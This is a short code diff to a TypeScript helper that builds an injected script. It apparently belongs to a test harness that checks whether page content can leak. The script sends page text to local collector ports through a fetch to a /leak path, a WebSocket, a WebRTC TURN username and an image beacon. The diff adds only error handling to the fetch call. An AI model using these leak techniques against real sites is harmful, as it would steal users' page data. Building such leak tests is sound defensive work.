@@ -10,7 +10,7 @@ export function plantedScript(ports: { http: number; ws: number; stun: number })
   return [
     `window.${SCRIPT_MARKER}=1;document.documentElement.setAttribute('data-pwned','1');`,
     `try{new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${ports.stun}'},{urls:'turn:127.0.0.1:${ports.stun}?transport=udp',username:document.body.innerText.slice(0,200),credential:'x'}]}).createDataChannel('x')}catch(e){}`,
-    `try{fetch('http://127.0.0.1:${ports.http}/leak?'+encodeURIComponent(document.body.innerText.slice(0,200)))}catch(e){}`,
+    `try{fetch('http://127.0.0.1:${ports.http}/leak?'+encodeURIComponent(document.body.innerText.slice(0,200))).catch(function(){})}catch(e){}`,
     `try{new WebSocket('ws://127.0.0.1:${ports.ws}/leak')}catch(e){}`,
     `new Image().src='http://127.0.0.1:${ports.http}/img';`,
   ].join('');
